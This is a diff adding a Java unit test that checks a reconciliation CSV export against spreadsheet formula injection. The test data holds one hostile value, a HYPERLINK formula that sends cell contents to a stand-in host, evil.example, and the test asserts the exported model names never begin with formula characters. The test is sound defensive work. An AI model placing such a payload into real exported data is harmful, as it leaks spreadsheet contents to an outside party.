@@ -459,4 +459,37 @@ class BillImportTest {
                 .isInstanceOf(BillFormatException.class)
                 .hasMessageStartingWith("cur-monthly.csv");
     }
+
+    /**
+     * Model names in the usage log are what clients sent; {@code reconciliation.csv} is opened in spreadsheets by
+     * finance. A model name starting with {@code =} must not reach a cell as a formula.
+     */
+    @Test
+    void reconciliationCsv_modelNameLikeAFormula_notWrittenAsAFormula() throws Exception {
+        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
+        String model = "=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")";
+        metered.add(record("r1", "openai", model, TokenUsage.openAi(1000, 0, 10, 0), new BigDecimal("0.01")));
+
+        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
+                .reconcile(
+                        metered,
+                        NOV1.plusDays(1),
+                        List.of(OpenAiBill.read(List.of(sample("openai-costs.json"), sample("openai-usage.json")))));
+        String csv = ReconciliationCsv.write(r, Map.of());
+
+        List<String> models;
+        try (org.apache.commons.csv.CSVParser p = org.apache.commons.csv.CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new java.io.StringReader(csv))) {
+            models = p.stream().map(rec -> rec.get("model")).toList();
+        }
+        assertThat(models).anySatisfy(m -> assertThat(m).contains("HYPERLINK"));
+        assertThat(models).allSatisfy(m -> assertThat(m)
+                .doesNotStartWith("=")
+                .doesNotStartWith("+")
+                .doesNotStartWith("@"));
+    }
 }
